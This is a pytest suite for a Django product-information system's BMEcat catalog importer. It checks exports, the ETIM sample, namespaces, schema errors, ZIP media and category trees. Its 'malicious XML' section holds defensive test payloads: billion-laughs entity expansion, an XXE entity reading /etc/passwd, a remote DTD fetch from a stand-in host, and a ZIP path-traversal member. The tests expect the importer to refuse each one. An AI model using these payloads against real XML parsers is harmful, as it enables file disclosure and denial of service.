"""Reading BMEcat: our own exports (2005, ETIM guideline 5.0, 1.2) read back into records with
every product, feature, price, MIME reference, keyword and logistics value; the official
ETIM sample; foreign namespaces, broken and malicious files; a ZIP with media; the group
tree; and flat memory on a large file."""

import os
import socket
import textwrap
import tracemalloc
import zipfile
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings

from pim.catalog.models import Attribute, AttributeOption, Category, PackingUnit, Unit
from pim.exports.models import ExportFormat
from pim.exports.runs import run_export
from pim.imports.bmecat import IncomingCategory, apply_categories, open_bmecat
from pim.imports.models import ImportMapping
from pim.imports.records import ERROR, WARNING
from tests.exports.conftest import build_catalog, etim_codes, gtin, make_channel
from tests.factories import make_valve_family

pytestmark = pytest.mark.django_db

ETIM_SAMPLE = Path(settings.PIM_STANDARDS_DIR) / "bmecat/etim-guideline-5.0/sample_etim9_t_new_catalog.xml"
NS_2005 = "http://www.bmecat.org/bmecat/2005"
BOX_GTIN = gtin("1400638133393")


@pytest.fixture(autouse=True)
def export_setup(tmp_path, settings):
    settings.PIM_EXPORT_ROOT = tmp_path / "exports"
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


@pytest.fixture
def catalog(db):
    catalog = build_catalog()
    full = catalog.products["full"]
    full.brand = "Acme ProLine"
    full.country_of_origin = "DE"
    full.customs_tariff_number = "84818081"
    full.delivery_time_days = 5
    full.discount_group = "RG-12"
    full.keywords = {"en": "ball valve, brass", "de": "Kugelhahn, Messing"}
    full.reach_status = "contains"
    full.scip_number = "f5716c60-d07c-415c-b4c0-c1a796eaaf04"
    full.rohs_status = "compliant"
    full.ce_marking = True
    full.un_number = "1234"
    full.net_weight = Decimal("0.25")
    full.length, full.width, full.height = Decimal("120"), Decimal("80"), Decimal("45")
    full.save()
    PackingUnit.objects.create(
        product=full,
        sort_order=0,
        code="BX",
        quantity=Decimal("10"),
        gtin=BOX_GTIN,
        gross_weight=Decimal("3.2"),
        length=Decimal("300"),
        width=Decimal("200"),
        height=Decimal("100"),
        package_break=True,
    )
    return catalog


def export(format, **fields):
    return run_export(make_channel(format, **fields)).file_path()


def read_all(path, **options):
    source = open_bmecat(path, **options)
    products = {product.number: product for product in source}
    source.close()
    return source, products


def values(raws):
    return [raw.value for raw in raws]


def write(tmp_path, text: str, name="catalog.xml") -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")
    return path


# -- our own exports --------------------------------------------------------------------


@pytest.mark.parametrize(
    "format, numbers",
    [
        (ExportFormat.BMECAT_2005, {"KH-100", "KH-200", "KH-300", "KH-SER-15"}),
        (ExportFormat.BMECAT_2005_ETIM, {"KH-100", "KH-200", "KH-SER-15"}),
        (ExportFormat.BMECAT_12, {"KH-100", "KH-200", "KH-SER-15"}),
    ],
)
def test_own_export_reads_back_every_product_feature_price_and_reference(catalog, format, numbers):
    path = export(format)
    source, products = read_all(path)

    assert set(products) == numbers
    assert source.total_rows == len(numbers)
    # Our own files are read without a single warning or error.
    assert source.problems == []
    assert all(product.problems == [] for product in products.values())

    full = products["KH-100"]
    assert full.fields["family"].value == "valves"
    assert full.fields["gtin"].value == catalog.products["full"].gtin
    assert full.fields["manufacturer_pid"].value == "MF-100"
    assert full.localized["name"]["en"].value == "Ball valve DN15 & <brass>"
    # ETIM features by their EF codes, with the unit the file names (EU codes -> catalog units
    # where the file has FUNIT; the ETIM guideline leaves the unit to the family).
    expect_units = format != ExportFormat.BMECAT_2005_ETIM
    assert full.values["max_pressure"].value == "16"
    assert full.values["max_pressure"].unit == ("bar" if expect_units else "")
    assert full.values["temperature_range"].value == ("-10", "120")
    assert full.values["temperature_range"].unit == ("degC" if expect_units else "")
    brass = AttributeOption.objects.get(attribute__code="body_material", code="brass")
    assert full.values["body_material"].value == brass.etim_code
    assert sorted(full.values["approvals"].value) == sorted(
        AttributeOption.objects.filter(attribute__code="approvals", code__in=["fda", "dvgw"]).values_list(
            "etim_code", flat=True
        )
    )
    assert full.values["food_grade"].value == "true"
    assert products["KH-200"].values["max_pressure"].value.startswith("15.99")  # 232 psi in bar
    # Prices: the whole list, with the tier and the future validity.
    assert full.prices_replace_all is True
    prices = {(p.price_type, p.currency, p.amount.value, p.min_quantity.value) for p in full.prices}
    assert prices == {
        ("net_list", "EUR", "12.5", "1"),
        ("net_list", "EUR", "11", "50"),
        ("gros_list", "EUR", "14.88", "1"),
    }
    gross = next(p for p in full.prices if p.price_type == "gros_list")
    assert gross.valid_from.value == (date.today() - timedelta(days=10)).isoformat()
    assert gross.valid_to.value == (date.today() + timedelta(days=300)).isoformat()
    assert gross.tax_rate.value == "0.19"
    # References: accessory, replacement and the successor (followup).
    assert values(full.relations["accessory"]) == ["KH-200"]
    assert values(products["KH-200"].relations["replacement"]) == ["KH-100"]
    assert values(products["KH-200"].relations["successor"]) == ["KH-100"]
    # MIME references: the datasheets, with their descriptions.
    sources = [media.source for media in full.media]
    assert "downloads/products/KH-100/datasheet-en.pdf" in sources
    language, text = ("en", "Datasheet") if format == ExportFormat.BMECAT_12 else ("de", "Datenblatt")
    assert any(media.descriptions.get(language, "").startswith(text) for media in full.media)
    # Order details.
    assert products["KH-200"].fields["order_unit"].value == "PK"
    assert products["KH-200"].fields["content_quantity"].value == "10"
    assert full.fields["min_order_quantity"].value == "5"
    # Values carry where they stand, for messages.
    assert full.values["max_pressure"].location.line is not None
    assert full.values["max_pressure"].location.column == "PRODUCT_FEATURES/FEATURE[EF000001]"


def test_bmecat_2005_reads_trade_logistics_keywords_groups_and_own_features(catalog):
    source, products = read_all(export(ExportFormat.BMECAT_2005))
    full = products["KH-100"]

    assert full.localized["keywords"]["en"].value == "ball valve, brass"
    assert full.localized["keywords"]["de"].value == "Kugelhahn, Messing"
    assert full.fields["delivery_time_days"].value == "5"
    assert full.fields["un_number"].value == "1234"
    assert full.fields["customs_tariff_number"].value == "84818081"
    assert full.fields["country_of_origin"].value == "DE"
    # Dimensions and weight in the units BMEcat prescribes: metres and kilograms.
    assert (full.fields["length"].value, full.fields["length"].unit) == ("0.12", "m")
    assert (full.fields["height"].value, full.fields["height"].unit) == ("0.045", "m")
    assert (full.fields["net_weight"].value, full.fields["net_weight"].unit) == ("0.25", "kg")
    (box,) = full.packing_units
    assert (box.fields["code"].value, box.fields["quantity"].value) == ("BX", "10")
    # The catalog's own features (no feature system) match attributes by name.
    assert full.values["note"].value == {"en": "Lever included", "de": "Mit Hebel"}
    assert products["KH-200"].fields["lifecycle"].value == "phase_out"
    # Catalog groups: the tree (without the root) and each product's groups.
    assert [(c.code, c.parent_code) for c in source.categories] == [
        ("fittings", ""),
        ("valves", ""),
        ("ball-valves", "valves"),
    ]
    ball = source.categories[2]
    assert ball.names == {"en": "Ball valves", "de": "Kugelhähne"}
    assert ball.descriptions["de"] == "Vierteldrehungsventile"
    assert values(full.categories) == ["ball-valves"]
    assert values(products["KH-300"].categories) == ["fittings"]


def test_own_features_written_once_per_language_read_back_as_one_value_without_warnings(catalog):
    # Without an ETIM code the body material goes into the catalog's own feature block too,
    # with its option label in every language.
    Attribute.objects.filter(code="body_material").update(etim_code="")
    path = export(ExportFormat.BMECAT_2005)
    text = path.read_text(encoding="utf-8")
    assert '<FVALUE lang="eng">Lever included</FVALUE>' in text
    assert '<FVALUE lang="deu">Messing</FVALUE>' in text

    source, products = read_all(path)
    full = products["KH-100"]

    # A localizable text: one value with every language of the file.
    assert full.values["note"].value == {"en": "Lever included", "de": "Mit Hebel"}
    # A single-valued attribute: the label of the file's default language stands for all.
    assert full.values["body_material"].value == "Brass"
    messages = [str(problem.message) for problem in full.problems + source.problems]
    assert not any("takes one value" in message for message in messages), messages
    assert full.problems == []


def test_fvalues_with_and_without_lang_fill_the_languages_of_a_localizable_text(db, tmp_path):
    make_valve_family()
    path = write(
        tmp_path,
        f"""
        <BMECAT version="2005" xmlns="{NS_2005}">
          <HEADER><CATALOG><LANGUAGE>deu</LANGUAGE><LANGUAGE default="true">deu</LANGUAGE>
            <CATALOG_ID>c</CATALOG_ID><CATALOG_VERSION>1</CATALOG_VERSION></CATALOG></HEADER>
          <T_NEW_CATALOG>
            <PRODUCT>
              <SUPPLIER_PID>N-1</SUPPLIER_PID>
              <PRODUCT_DETAILS><DESCRIPTION_SHORT>Ventil</DESCRIPTION_SHORT></PRODUCT_DETAILS>
              <PRODUCT_FEATURES>
                <FEATURE><FNAME>note</FNAME>
                  <FVALUE>Mit Hebel</FVALUE><FVALUE lang="eng">Lever included</FVALUE></FEATURE>
                <FEATURE><FNAME>body_material</FNAME>
                  <FVALUE>brass</FVALUE><FVALUE>ss316</FVALUE></FEATURE>
              </PRODUCT_FEATURES>
            </PRODUCT>
          </T_NEW_CATALOG>
        </BMECAT>
        """,
    )
    _source, products = read_all(path)
    product = products["N-1"]

    # The FVALUE without lang is in the file's default language (German here).
    assert product.values["note"].value == {"de": "Mit Hebel", "en": "Lever included"}
    # Two different values of a single-valued attribute are still reported.
    assert product.values["body_material"].value == "brass"
    (problem,) = product.problems
    assert problem.severity == WARNING
    assert "takes one value" in str(problem.message)


def test_etim_variant_reads_edxf_extensions_and_series(catalog):
    source, products = read_all(export(ExportFormat.BMECAT_2005_ETIM))
    full = products["KH-100"]

    assert full.fields["brand"].value == "Acme ProLine"
    assert full.fields["discount_group"].value == "RG-12"
    assert full.fields["rohs_status"].value == "compliant"
    assert full.fields["ce_marking"].value == "true"
    assert full.fields["reach_status"].value == "contains"
    assert full.fields["scip_number"].value == "f5716c60-d07c-415c-b4c0-c1a796eaaf04"
    assert (full.fields["width"].value, full.fields["width"].unit) == ("0.08", "m")
    (box,) = full.packing_units
    assert box.fields["gtin"].value == BOX_GTIN
    assert (box.fields["gross_weight"].value, box.fields["gross_weight"].unit) == ("3.2", "kg")
    assert (box.fields["length"].value, box.fields["length"].unit) == ("0.3", "m")
    assert box.fields["package_break"].value == "true"
    assert {media.code for media in full.media} == {"MD22"}
    # The series of the variant names its product model.
    assert products["KH-SER-15"].fields["product_model"].value == "KH-SERIES"
    # The guideline's mandatory start date on open-ended prices (the file's date) is no date.
    current = next(p for p in full.prices if p.price_type == "net_list" and p.min_quantity.value == "1")
    assert current.valid_from is None
    future = next(p for p in full.prices if p.price_type == "gros_list")
    assert future.valid_from.value == (date.today() - timedelta(days=10)).isoformat()
    assert source.categories == []  # the ETIM guideline has no group system
    assert full.categories is None


def test_bmecat_12_reads_articles_in_the_catalog_language(catalog):
    source, products = read_all(export(ExportFormat.BMECAT_12))
    full = products["KH-100"]
    assert source.version == "BMEcat 1.2"
    assert full.localized["name"] == {"en": full.localized["name"]["en"]}
    assert full.localized["long_description"]["en"].value.startswith("A robust two-way ball valve.")
    assert full.fields["gtin"].value == catalog.products["full"].gtin  # EAN
    assert full.fields["manufacturer_pid"].value == "MF-100"  # MANUFACTURER_AID
    assert full.localized["keywords"]["en"].value == "ball valve, brass"
    assert values(full.categories) == ["ball-valves"]  # ARTICLE_TO_CATALOGGROUP_MAP


# -- the official ETIM sample ---------------------------------------------------------


def test_official_etim_sample_reads_every_feature_and_reports_those_the_catalog_lacks(db):
    family = make_valve_family()
    family.etim_class_code = "EC000905"
    family.save()
    for code, etim in (
        ("max_pressure", "EF000227"),  # 16
        ("temperature_range", "EF007515"),  # -10 .. 60
        ("body_material", "EF002560"),  # EV000896
        ("food_grade", "EF005997"),  # true
    ):
        Attribute.objects.filter(code=code).update(etim_code=etim)
    source, products = read_all(ETIM_SAMPLE)
    (product,) = products.values()

    assert source.version == "ETIM BMEcat 5.0"
    assert product.number == "411061"
    assert product.fields["family"].value == "valves"
    assert product.values["max_pressure"].value == "16"
    assert product.values["temperature_range"].value == ("-10", "60")
    assert product.values["body_material"].value == "EV000896"
    assert product.values["food_grade"].value == "true"
    assert product.fields["gtin"].value == "03414970351821"
    assert product.fields["brand"].value == "Test brand"
    assert product.fields["discount_group"].value == "DS001"
    assert product.fields["rohs_status"].value == "not_compliant"
    assert product.fields["reach_status"].value == "contains"
    assert product.fields["un_number"].value == "1234"
    assert product.fields["packing_group"].value == "II"
    assert product.fields["hazard_class"].value == "2.1"
    assert product.fields["customs_tariff_number"].value == "85362010"
    assert product.fields["country_of_origin"].value == "NL"
    (carton,) = product.packing_units
    assert carton.fields["gtin"].value == "8717114911215"
    (price,) = product.prices
    assert (price.price_type, price.amount.value, price.tax_rate.value) == ("gros_list", "11.22", "0.21")
    assert (price.valid_from.value, price.valid_to.value) == ("2021-01-01", "2022-12-31")
    assert [media.source for media in product.media] == ["testmime1.jpg", "testmime2.jpg"]
    assert product.media[0].code == "MD01"

    # Every feature with a value that the catalog has no attribute for is reported, with
    # its line; "-" (not applicable) states nothing.
    warnings = [p for p in product.problems if p.severity == WARNING]
    missing = {
        p.location.column for p in warnings if p.location.column.startswith("PRODUCT_FEATURES/FEATURE[")
    }
    assert "PRODUCT_FEATURES/FEATURE[EF008618]" in missing
    assert "PRODUCT_FEATURES/FEATURE[EF007343]" in missing
    assert "PRODUCT_FEATURES/FEATURE[EF000227]" not in missing
    assert len(missing) == 30 - 4  # the sample has 30 features, 4 the catalog knows
    assert all(p.location.line for p in warnings)
    assert not [p for p in product.problems if p.severity == ERROR]
    # What the catalog cannot hold is reported too (the consists_of reference, surcharges…).
    columns = {p.location.column for p in warnings}
    assert "PRODUCT_REFERENCE[@type=consists_of]" in columns
    assert "USER_DEFINED_EXTENSIONS/UDX.EDXF.SURCHARGE_LIST" in columns
    # Dutch texts: the catalog has no Dutch; one file-level warning says so.
    assert product.localized["name"] == {"en": product.localized["name"]["en"]}
    assert any("dut" in problem.message for problem in source.problems)


# -- other namespaces, schema errors, mapping ----------------------------------------------

FD_FILE = """
<?xml version="1.0" encoding="UTF-8"?>
<BMECAT version="2005" xmlns="http://www.bmecat.org/bmecat/2005fd">
  <HEADER><CATALOG><LANGUAGE>deu</LANGUAGE><CATALOG_ID>x</CATALOG_ID><CATALOG_VERSION>1</CATALOG_VERSION>
    <CURRENCY>CHF</CURRENCY></CATALOG></HEADER>
  <T_NEW_CATALOG>
    <PRODUCT>
      <SUPPLIER_PID>FD-1</SUPPLIER_PID>
      <PRODUCT_DETAILS>
        <DESCRIPTION_SHORT>Kugelhahn</DESCRIPTION_SHORT>
        <MANUFACTURER_NAME>Acme</MANUFACTURER_NAME>
      </PRODUCT_DETAILS>
      <PRODUCT_PRICE_DETAILS>
        <VALID_START_DATE>2030-01-01</VALID_START_DATE>
        <PRODUCT_PRICE price_type="net_list"><PRICE_AMOUNT>9.5</PRICE_AMOUNT></PRODUCT_PRICE>
      </PRODUCT_PRICE_DETAILS>
    </PRODUCT>
  </T_NEW_CATALOG>
</BMECAT>
"""


def test_2005fd_namespace_and_header_defaults(db, tmp_path):
    source, products = read_all(write(tmp_path, FD_FILE))
    product = products["FD-1"]
    assert source.version == "BMEcat 2005 (2005fd)"
    # no lang attribute: the catalog's LANGUAGE (deu) is the text's language
    assert product.localized["name"]["de"].value == "Kugelhahn"
    assert product.fields["manufacturer_name"].value == "Acme"
    (price,) = product.prices
    assert price.currency == "CHF"  # from the header
    assert price.valid_from.value == "2030-01-01"  # 2005's VALID_START_DATE
    assert source.problems == [] and product.problems == []


SCHEMA_ERRORS = """
<?xml version="1.0" encoding="UTF-8"?>
<BMECAT version="2005">
  <HEADER><CATALOG><LANGUAGE>eng</LANGUAGE></CATALOG></HEADER>
  <T_NEW_CATALOG>
    <FORMULAS><FORMULA>x</FORMULA></FORMULAS>
    <PRODUCT>
      <SUPPLIER_PID>OK-1</SUPPLIER_PID>
      <DESCRIPTION_SHORT>Misplaced name</DESCRIPTION_SHORT>
      <PRODUCT_DETAILS>
        <DESCRIPTION_SHORT>Valve</DESCRIPTION_SHORT>
        <FANCY_FIELD>?</FANCY_FIELD>
      </PRODUCT_DETAILS>
      <PRODUCT_FEATURES>
        <REFERENCE_FEATURE_SYSTEM_NAME>ECLASS-11.0</REFERENCE_FEATURE_SYSTEM_NAME>
        <FEATURE><FNAME>0173-1#02-AAB713#005</FNAME><FVALUE>16</FVALUE></FEATURE>
      </PRODUCT_FEATURES>
      <PRODUCT_PRICE_DETAILS>
        <PRODUCT_PRICE price_type="net_customer"><PRICE_AMOUNT>1</PRICE_AMOUNT></PRODUCT_PRICE>
      </PRODUCT_PRICE_DETAILS>
    </PRODUCT>
    <PRODUCT>
      <PRODUCT_DETAILS><DESCRIPTION_SHORT>No number</DESCRIPTION_SHORT></PRODUCT_DETAILS>
    </PRODUCT>
    <PRODUCT>
      <SUPPLIER_PID>OK-2</SUPPLIER_PID>
    </PRODUCT>
  </T_NEW_CATALOG>
</BMECAT>
"""


def test_schema_errors_give_warnings_with_lines_and_an_error_only_for_the_broken_product(db, tmp_path):
    source, _products = read_all(write(tmp_path, SCHEMA_ERRORS))
    products = list(open_bmecat(write(tmp_path, SCHEMA_ERRORS, "again.xml")))
    assert [p.number for p in products] == ["OK-1", "", "OK-2"]
    ok, broken, plain = products

    by_column = {p.location.column: p for p in ok.problems}
    assert by_column["DESCRIPTION_SHORT"].severity == WARNING
    assert by_column["DESCRIPTION_SHORT"].location.line == 8
    assert ok.localized["name"]["en"].value == "Valve"  # the detail block's own wins (read later)
    assert by_column["PRODUCT_DETAILS/FANCY_FIELD"].location.line == 11
    eclass = by_column["PRODUCT_FEATURES/FEATURE[0173-1#02-AAB713#005]"]
    assert "map it" in eclass.message and eclass.location.line == 15
    assert (
        "net_customer" in by_column["PRODUCT_PRICE_DETAILS/PRODUCT_PRICE[@price_type=net_customer]"].message
    )
    assert ok.prices == []  # the file states prices, none of a kind we hold
    assert all(p.severity == WARNING for p in ok.problems)

    (error,) = broken.problems
    assert error.severity == ERROR and "SUPPLIER_PID" in error.message
    assert error.location.line == 21
    assert plain.problems == []
    # An unknown element between products is a file-level warning with its line.
    (formulas,) = [p for p in source.problems if p.location.column == "FORMULAS"]
    assert formulas.severity == WARNING and formulas.location.line == 5


def test_mapping_sends_supplier_and_eclass_features_to_attributes(db, tmp_path):
    make_valve_family()
    Unit.objects.filter(code="bar").update(unece_code="BAR")
    mapping = ImportMapping.objects.create(
        name="Supplier X",
        source_format="bmecat",
        features={
            "0173-1#02-AAB713#005": {"target": "attribute:max_pressure", "unit": "bar"},
            "Werkstoff": {"target": "attribute:body_material"},
            "Farbe": {"target": "ignore"},
        },
    )
    path = write(
        tmp_path,
        """
        <BMECAT version="2005" xmlns="http://www.bmecat.org/bmecat/2005">
          <T_NEW_CATALOG><PRODUCT><SUPPLIER_PID>M-1</SUPPLIER_PID>
            <PRODUCT_FEATURES>
              <REFERENCE_FEATURE_SYSTEM_NAME>ECLASS-11.0</REFERENCE_FEATURE_SYSTEM_NAME>
              <FEATURE><FNAME>0173-1#02-AAB713#005</FNAME><FVALUE>16</FVALUE></FEATURE>
            </PRODUCT_FEATURES>
            <PRODUCT_FEATURES>
              <REFERENCE_FEATURE_SYSTEM_NAME>SUPPLIER</REFERENCE_FEATURE_SYSTEM_NAME>
              <FEATURE><FNAME>Werkstoff</FNAME><FVALUE>Messing</FVALUE></FEATURE>
              <FEATURE><FNAME>Farbe</FNAME><FVALUE>rot</FVALUE></FEATURE>
              <FEATURE><FNAME>Druck</FNAME><FVALUE>10</FVALUE><FUNIT>BAR</FUNIT></FEATURE>
            </PRODUCT_FEATURES>
          </PRODUCT></T_NEW_CATALOG>
        </BMECAT>
        """,
    )
    _source, products = read_all(path, mapping=mapping)
    product = products["M-1"]
    assert (product.values["max_pressure"].value, product.values["max_pressure"].unit) == ("16", "bar")
    assert product.values["body_material"].value == "Messing"  # a label: the planner resolves it
    assert set(product.values) == {"max_pressure", "body_material"}
    (unmapped,) = product.problems
    assert unmapped.location.column == "PRODUCT_FEATURES/FEATURE[Druck]"


def test_update_files_carry_actions_and_price_updates_only_prices(db, tmp_path):
    path = write(
        tmp_path,
        """
        <BMECAT version="1.2" xmlns="http://www.bmecat.org/XMLSchema/1.2/bmecat_update_products">
          <HEADER><CATALOG><LANGUAGE>eng</LANGUAGE><CURRENCY>EUR</CURRENCY></CATALOG></HEADER>
          <T_UPDATE_PRODUCTS prev_version="1">
            <ARTICLE mode="delete"><SUPPLIER_AID>GONE-1</SUPPLIER_AID>
              <ARTICLE_DETAILS><DESCRIPTION_SHORT>x</DESCRIPTION_SHORT></ARTICLE_DETAILS></ARTICLE>
            <ARTICLE mode="update"><SUPPLIER_AID>UPD-1</SUPPLIER_AID>
              <ARTICLE_DETAILS><DESCRIPTION_SHORT>Updated</DESCRIPTION_SHORT></ARTICLE_DETAILS></ARTICLE>
          </T_UPDATE_PRODUCTS>
        </BMECAT>
        """,
    )
    _source, products = read_all(path)
    assert products["GONE-1"].action == "delete" and products["GONE-1"].localized == {}
    assert products["UPD-1"].action == "update"
    assert products["UPD-1"].localized["name"]["en"].value == "Updated"
    assert products["UPD-1"].categories is None  # an update file without a group map says nothing

    prices = write(
        tmp_path,
        """
        <BMECAT version="2005" xmlns="http://www.bmecat.org/bmecat/2005">
          <T_UPDATE_PRICES prev_version="2"><PRODUCT><SUPPLIER_PID>P-1</SUPPLIER_PID>
            <PRODUCT_DETAILS><DESCRIPTION_SHORT>ignored</DESCRIPTION_SHORT></PRODUCT_DETAILS>
            <PRODUCT_PRICE_DETAILS>
              <PRODUCT_PRICE price_type="net_list"><PRICE_AMOUNT>3</PRICE_AMOUNT>
                <PRICE_CURRENCY>EUR</PRICE_CURRENCY><LOWER_BOUND>10</LOWER_BOUND></PRODUCT_PRICE>
            </PRODUCT_PRICE_DETAILS>
          </PRODUCT></T_UPDATE_PRICES>
        </BMECAT>
        """,
        "prices.xml",
    )
    _source, products = read_all(prices)
    product = products["P-1"]
    assert product.action == "update" and product.localized == {}
    assert [(p.amount.value, p.min_quantity.value) for p in product.prices] == [("3", "10")]


def test_not_well_formed_xml_is_an_error_with_its_line(db, tmp_path):
    path = write(
        tmp_path,
        """
        <BMECAT version="2005">
          <T_NEW_CATALOG>
            <PRODUCT><SUPPLIER_PID>A-1</SUPPLIER_PID></PRODUCT>
            <PRODUCT><SUPPLIER_PID>A-2</SUPPLIER_PID>
          </T_NEW_CATALOG>
        </BMECAT>
        """,
    )
    source, products = read_all(path)
    assert list(products) == ["A-1"]
    (error,) = [p for p in source.problems if p.severity == ERROR]
    assert "not well-formed" in error.message and error.location.line == 5


def test_a_file_that_is_not_bmecat_is_refused(db, tmp_path):
    source, products = read_all(write(tmp_path, "<catalog><item/></catalog>"))
    assert products == {} and source.failed
    assert "root element is “catalog”" in source.problems[0].message


# -- malicious XML -----------------------------------------------------------------------

BILLION_LAUGHS = """
<?xml version="1.0"?>
<!DOCTYPE BMECAT [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<BMECAT version="2005"><T_NEW_CATALOG><PRODUCT><SUPPLIER_PID>B-1</SUPPLIER_PID>
<PRODUCT_DETAILS><DESCRIPTION_SHORT>&lol9;</DESCRIPTION_SHORT></PRODUCT_DETAILS></PRODUCT></T_NEW_CATALOG></BMECAT>
"""
XXE_FILE = """
<?xml version="1.0"?>
<!DOCTYPE BMECAT [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<BMECAT version="2005"><T_NEW_CATALOG><PRODUCT><SUPPLIER_PID>X-1</SUPPLIER_PID>
<PRODUCT_DETAILS><DESCRIPTION_SHORT>&secret;</DESCRIPTION_SHORT></PRODUCT_DETAILS></PRODUCT></T_NEW_CATALOG></BMECAT>
"""
XXE_NETWORK = """
<?xml version="1.0"?>
<!DOCTYPE BMECAT [ <!ENTITY % remote SYSTEM "http://203.0.113.7/evil.dtd"> %remote; ]>
<BMECAT version="2005"><T_NEW_CATALOG/></BMECAT>
"""


@pytest.fixture
def no_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("the reader tried to open a network connection")

    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


@pytest.mark.parametrize(
    "text", [BILLION_LAUGHS, XXE_FILE, XXE_NETWORK], ids=["billion-laughs", "xxe-file", "xxe-url"]
)
def test_entity_declarations_are_refused_without_expansion_or_network(db, tmp_path, no_network, text):
    tracemalloc.start()
    source, products = read_all(write(tmp_path, text))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert products == {}
    assert source.failed
    (error,) = source.problems
    assert error.severity == ERROR
    assert "declares entities" in error.message
    assert peak < 5 * 1024 * 1024


def test_a_doctype_that_only_names_a_dtd_is_ignored_with_a_warning(db, tmp_path, no_network):
    path = write(
        tmp_path,
        """
        <?xml version="1.0"?>
        <!DOCTYPE BMECAT SYSTEM "http://203.0.113.7/bmecat_new_catalog.dtd">
        <BMECAT version="1.2"><T_NEW_CATALOG><ARTICLE><SUPPLIER_AID>D-1</SUPPLIER_AID></ARTICLE></T_NEW_CATALOG></BMECAT>
        """,
    )
    source, products = read_all(path)
    assert list(products) == ["D-1"]
    (warning,) = source.problems
    assert warning.severity == WARNING and "DOCTYPE" in warning.message


# -- ZIP with media ------------------------------------------------------------------------


def test_zip_with_xml_and_media_records_the_files_of_mime_references(catalog, tmp_path):
    xml = export(ExportFormat.BMECAT_2005)
    archive = tmp_path / "supplier.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.write(xml, "catalog/bmecat.xml")
        bundle.writestr("catalog/downloads/products/KH-100/datasheet-en.pdf", b"%PDF-1.4 test")
        bundle.writestr("readme.txt", b"not a catalog")
    source = open_bmecat(archive)
    products = {product.number: product for product in source}
    assert source.problems == []
    assert set(products) == {"KH-100", "KH-200", "KH-300", "KH-SER-15"}
    assert "catalog/downloads/products/KH-100/datasheet-en.pdf" in source.media_names
    assert "catalog/bmecat.xml" not in source.media_names
    # The MIME_SOURCE names the path below the catalog's folder: found by its unique name.
    with source.open_media("downloads/products/KH-100/datasheet-en.pdf") as media:
        assert media.read() == b"%PDF-1.4 test"
    assert source.open_media("downloads/products/KH-200/datasheet-en.pdf") is None
    source.close()


@pytest.mark.parametrize(
    "member, text, message",
    [
        ("../../etc/cron.d/evil.xml", "<BMECAT/>", "ZIP archive was refused"),
        ("catalog.xml", XXE_FILE.lstrip(), "declares entities"),
        ("notes/readme.xml", "<notes/>", "holds no BMEcat XML file"),
    ],
    ids=["path-traversal", "xxe-inside", "no-bmecat"],
)
def test_unsafe_or_foreign_zip_is_refused(db, tmp_path, no_network, member, text, message):
    archive = tmp_path / "evil.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr(member, text)
    source, products = read_all(archive)
    assert products == {} and source.failed
    (error,) = source.problems
    assert message in error.message


# -- categories ------------------------------------------------------------------------------

GROUPS = """
<BMECAT version="2005" xmlns="http://www.bmecat.org/bmecat/2005">
  <HEADER><CATALOG><LANGUAGE default="true">deu</LANGUAGE><LANGUAGE>eng</LANGUAGE></CATALOG></HEADER>
  <T_NEW_CATALOG>
    <CATALOG_GROUP_SYSTEM>
      <CATALOG_STRUCTURE type="root"><GROUP_ID>1</GROUP_ID><GROUP_NAME>Alles</GROUP_NAME><PARENT_ID>0</PARENT_ID></CATALOG_STRUCTURE>
      <CATALOG_STRUCTURE type="leaf"><GROUP_ID>1.2.3</GROUP_ID><GROUP_NAME>Kugelhähne</GROUP_NAME>
        <GROUP_NAME lang="eng">Ball valves</GROUP_NAME><PARENT_ID>valves</PARENT_ID><GROUP_ORDER>2</GROUP_ORDER></CATALOG_STRUCTURE>
      <CATALOG_STRUCTURE type="node"><GROUP_ID>valves</GROUP_ID><GROUP_NAME>Armaturen</GROUP_NAME>
        <PARENT_ID>1</PARENT_ID><GROUP_ORDER>1</GROUP_ORDER></CATALOG_STRUCTURE>
      <CATALOG_STRUCTURE type="leaf"><GROUP_ID>orphan</GROUP_ID><GROUP_NAME>Waise</GROUP_NAME>
        <PARENT_ID>nowhere</PARENT_ID></CATALOG_STRUCTURE>
    </CATALOG_GROUP_SYSTEM>
    <PRODUCT><SUPPLIER_PID>G-1</SUPPLIER_PID></PRODUCT>
    <PRODUCT><SUPPLIER_PID>G-2</SUPPLIER_PID></PRODUCT>
    <PRODUCT_TO_CATALOGGROUP_MAP><PROD_ID>G-1</PROD_ID><CATALOG_GROUP_ID>1.2.3</CATALOG_GROUP_ID></PRODUCT_TO_CATALOGGROUP_MAP>
    <PRODUCT_TO_CATALOGGROUP_MAP><PROD_ID>G-1</PROD_ID><CATALOG_GROUP_ID>orphan</CATALOG_GROUP_ID></PRODUCT_TO_CATALOGGROUP_MAP>
  </T_NEW_CATALOG>
</BMECAT>
"""


def test_catalog_groups_become_categories_parents_first_and_idempotently(db, tmp_path):
    Category.objects.create(code="valves", name={"de": "Ventile", "en": "Valves"})
    source, products = read_all(write(tmp_path, GROUPS))
    codes = {c.group_id: c.code for c in source.categories}
    assert codes["valves"] == "valves"
    assert codes["1.2.3"].startswith("123-")  # not a valid code: a slug with a digest
    assert isinstance(source.categories[0], IncomingCategory)
    (orphan_warning,) = source.problems
    assert "nowhere" in orphan_warning.message and orphan_warning.location.line == 10
    # Products read before the map at the end of the file still carry their groups.
    assert values(products["G-1"].categories) == [codes["1.2.3"], "orphan"]
    assert products["G-2"].categories == []  # a full catalog that maps G-2 nowhere

    assert apply_categories(source) == {"created": 2, "updated": 1}
